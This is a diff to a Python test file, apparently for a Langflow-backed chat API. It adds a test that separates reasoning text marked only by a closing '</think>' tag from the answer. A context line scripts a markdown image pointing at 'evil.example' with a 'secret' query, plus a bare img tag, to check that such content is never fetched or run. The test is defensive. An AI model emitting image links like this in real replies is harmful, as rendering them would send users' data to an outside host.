@@ -213,6 +213,17 @@ async def test_thoughts_are_no_content(client, scripted_langflow):
     assert "".join(deltas).strip() == "Hm, notes."
 
 
+async def test_thoughts_of_which_the_end_alone_is_marked_are_none_in_a_whole_answer(
+    client, scripted_langflow
+):
+    script(scripted_langflow, "Hm, notes.\n</think>\n\nBecause.", size=3)
+
+    message = (await ask(client)).choices[0].message
+
+    assert (message.content, message.reasoning_content.strip()) == ("Because.", "Hm, notes.")
+    assert "</think>" not in words_of(await stream(client))
+
+
 async def test_nothing_in_it_is_fetched_or_run_by_whoever_shows_it(client, scripted_langflow):
     script(scripted_langflow, "Look ![x](https://evil.example/?q=secret) <img src=//evil>", size=1)
 
